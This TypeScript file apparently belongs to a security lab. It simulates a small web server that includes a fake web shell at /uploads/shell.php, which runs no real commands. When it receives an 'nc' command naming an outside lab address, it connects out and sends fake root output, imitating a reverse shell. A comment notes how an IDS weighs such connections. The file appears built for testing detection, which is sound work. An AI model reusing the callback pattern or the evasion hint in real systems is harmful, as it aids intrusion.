import type { IncomingMessage, ServerResponse } from 'node:http';
import { connect } from 'node:net';
import { ADDRESSES, PORTS } from '../layout.ts';

const TEXT =
  'Ward plan for this week: visiting hours are from two to five in the afternoon. Please report at the desk first. ';
const MAX_BODY_BYTES = 65_536;

/** Answers requests to the protected web server, over HTTP and HTTPS alike. */
export function answerSite(request: IncomingMessage, response: ServerResponse): void {
  let body = '';
  request.on('data', (chunk: Buffer) => {
    body += chunk.toString('latin1');
    if (body.length > MAX_BODY_BYTES) request.destroy();
  });
  request.on('end', () => {
    route(request, response, body);
  });
  request.on('error', () => undefined);
}

function route(request: IncomingMessage, response: ServerResponse, body: string): void {
  const path = (request.url ?? '/').split('?')[0] ?? '/';
  const send = (
    status: number,
    type: string,
    content: string | Buffer,
    headers: Record<string, string> = {},
  ) => {
    response.writeHead(status, { 'Content-Type': type, 'Content-Length': content.length, ...headers });
    response.end(content);
  };
  if (path === '/uploads/shell.php' && request.method === 'POST') {
    send(200, 'text/plain', runShell(new URLSearchParams(body).get('cmd') ?? ''));
  } else if (path === '/login' && request.method === 'POST') {
    send(302, 'text/html', '', {
      Location: '/home',
      'Set-Cookie': `session=${String(Date.now())}; HttpOnly; Secure`,
    });
  } else if (path === '/admin/') {
    send(401, 'text/plain', 'not for you', { 'WWW-Authenticate': 'Basic realm="admin"' });
  } else if (path === '/' || path === '/home' || path.endsWith('.html')) {
    send(200, 'text/html; charset=utf-8', page(path));
  } else if (path.endsWith('.css')) {
    send(200, 'text/css', 'body { font: 16px/1.5 sans-serif; margin: 2rem; }\n'.repeat(20));
  } else if (path.endsWith('.js')) {
    send(200, 'text/javascript', 'document.title = document.title.trim();\n'.repeat(60));
  } else if (/^\/images\/\d+\.png$/.test(path)) {
    send(200, 'image/png', picture(path.length * 700));
  } else if (/^\/files\/report-\d+\.bin$/.test(path)) {
    const kib = Math.min(256, Number(/\d+/.exec(path)?.[0] ?? 1));
    send(200, 'application/octet-stream', Buffer.alloc(kib * 1024, TEXT));
  } else {
    send(404, 'text/plain', 'not found');
  }
}

function page(path: string): string {
  return `<!doctype html><html><head><title>${path === '/' ? 'Lab' : 'Page'}</title><link rel="stylesheet" href="/style.css">
<script src="/app.js"></script></head><body><h1>Welcome</h1><p>${TEXT.repeat(12)}</p><img src="/images/1.png"></body></html>\n`;
}

/** Starts with the PNG signature, so file recognition has something true to say. */
function picture(bytes: number): Buffer {
  return Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(bytes, 7)]);
}

/**
 * Plays a web shell: knows two commands, runs neither. The second makes the server call out to the attacker as a reverse shell
 * would.
 */
function runShell(command: string): string {
  if (command === 'id') return 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n';
  if (command === `nc ${ADDRESSES.outside.ip4} ${String(PORTS.shellSink)}`) {
    const socket = connect({ host: ADDRESSES.outside.ip4, port: PORTS.shellSink, timeout: 3_000 });
    socket.on('error', () => undefined);
    socket.on('timeout', () => socket.destroy());
    // A conversation, as with a person at the other end: an IDS looks at what was acknowledged, and a connection that ends with
    // its first and only data is looked at a minute later, when it is forgotten.
    socket.write('uid=0(root) gid=0(root) groups=0(root)\n');
    socket.on('data', () => socket.end('exit\n'));
    return '';
  }
  return 'sh: not found\n';
}
